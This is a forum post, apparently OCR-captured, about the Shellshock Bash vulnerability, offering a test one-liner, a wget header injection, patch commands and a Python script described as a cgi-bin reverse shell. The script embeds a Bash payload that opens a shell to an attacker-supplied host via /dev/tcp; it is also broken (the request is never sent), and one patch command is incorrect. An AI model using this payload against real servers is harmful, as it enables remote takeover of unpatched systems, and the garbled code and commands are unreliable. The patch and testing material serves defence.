Jump to content

Shellshock - Bash bug


Recommended Posts

Stephane Chazelas U.K. @ robotics company SeeByte find a bug in BASH


A quick test to check if you are vulnerable (debian, ubuntu, unix (FreeBSD).. )

env x='() { :;}; echo vulnerable' bash -c "echo this is a test"

if your terminal respond : vulnerable you are vulnerable
The problem is the following -> the code continue toexecute after the ; -> and here you can inject malicious code ...


wget -U "() { test;};/usr/bin/touch /tmp/VULNERABLE" myserver/cgi-bin/test

You have to update your bash by paquets incouple of days

CentOS : # yum update bash

Debian : # apt-get update bash

FreeBSD : # portsnap fetch update



Example of attack could be perform (in this example a Reverse Shell by http header)

#CVE-2014-6271 cgi-bin reverse shell

import httplib,urllib,sys

if (len(sys.argv)<4):
    print "Usage: %s <host> <vulnerable CGI> <attackhost/IP>" % sys.argv[0]
    print "Example: %s localhost /cgi-bin/test.cgi" % sys.argv[0]

conn = httplib.HTTPConnection(sys.argv[1])
reverse_shell="() { ignored;};/bin/bash -i >& /dev/tcp/%s 0>&1" % sys.argv[3]

headers = {"Content-type": "application/x-www-form-urlencoded",
    "test":reverse_shell }
res = conn.getresponse()
print res.status, res.reason
data = res.read()
print data
Edited by Armaal
Link to commentShare on other sites

Join the conversation

You can post now and register later. If you have an account, sign in now to post with your account.

Reply to this topic...

×   Pasted as rich text.   Paste as plain text instead

  Only 75 emoji are allowed.

×   Your link has been automatically embedded.   Display as a link instead

×   Your previous content has been restored.   Clear editor

×   You cannot paste images directly. Upload or insert images from URL.

  • Recently Browsing   0 members

    • No registered users viewing this page.
  • Create New...